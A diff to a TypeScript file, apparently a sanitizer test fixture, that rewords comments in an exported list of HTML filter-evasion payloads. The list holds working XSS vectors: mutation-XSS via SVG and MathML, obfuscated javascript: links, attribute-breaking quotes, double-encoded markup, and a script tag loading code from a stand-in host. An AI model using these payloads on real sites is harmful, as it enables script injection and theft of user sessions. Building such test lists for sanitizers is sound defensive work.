@@ -1,6 +1,6 @@
 /**
- * What has evaded filters of HTML, from the techniques of the public lists: elements that few remember, links whose scheme
- * hides, attributes and comments that end where nobody expects it, and markup that browsers read in their own way.
+ * HTML that has evaded sanitizers, by the techniques of the public lists. It has rare elements, links with a disguised
+ * scheme, attributes and comments that end unexpectedly, and markup that browsers parse in different ways.
  */
 export const filterEvasions: readonly string[] = [
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
@@ -79,7 +79,7 @@ export const filterEvasions: readonly string[] = [
   '<p/onclick=alert(1)>x',
   '<\u0000script>alert(1)</script>',
   '\u00BCscript\u00BEalert(1)\u00BC/script\u00BE',
-  // Elements that browsers read in their own way, and so another cleaner might not.
+  // Elements that browsers parse by special rules, which a sanitizer may not know.
   '<svg><style><img src=x onerror=alert(1)></style></svg>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
@@ -115,7 +115,7 @@ export const filterEvasions: readonly string[] = [
   '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
   '<p contenteditable onbeforeinput=alert(1) tabindex=1>x</p>',
   '<p popover ontoggle=alert(1) id=x>x</p>',
-  // Links whose scheme hides.
+  // Links with a disguised scheme.
   '<a href="java\u0000script:alert(1)">x</a>',
   '<a href="java&NewLine;script:alert(1)">x</a>',
   '<a href="javascript&Tab;:alert(1)">x</a>',
@@ -141,7 +141,7 @@ export const filterEvasions: readonly string[] = [
   '<a href=javascript:alert&lpar;1&rpar;>x</a>',
   '<a href="https:\\\\evil.example">x</a><a href="///evil.example">y</a>',
   '<a href="\t//evil.example">x</a>',
-  // Attributes that end where nobody expects it.
+  // Attributes that end at an unexpected place.
   '<p "onclick=alert(1)>x</p>',
   '<p a=">" onclick=alert(1)>x</p>',
   "<p a='\"' onclick=alert(1)>x</p>",
@@ -151,7 +151,7 @@ export const filterEvasions: readonly string[] = [
   '<a/href="javascript:alert(1)">x</a>',
   '<a href="x&quot; onclick=&quot;alert(1)">x</a>',
   '<a href="https://example.com/&quot;><script>alert(1)</script>">x</a>',
-  // Text that could become markup when it is read again.
+  // Text that could become markup when it is parsed twice.
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
   '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
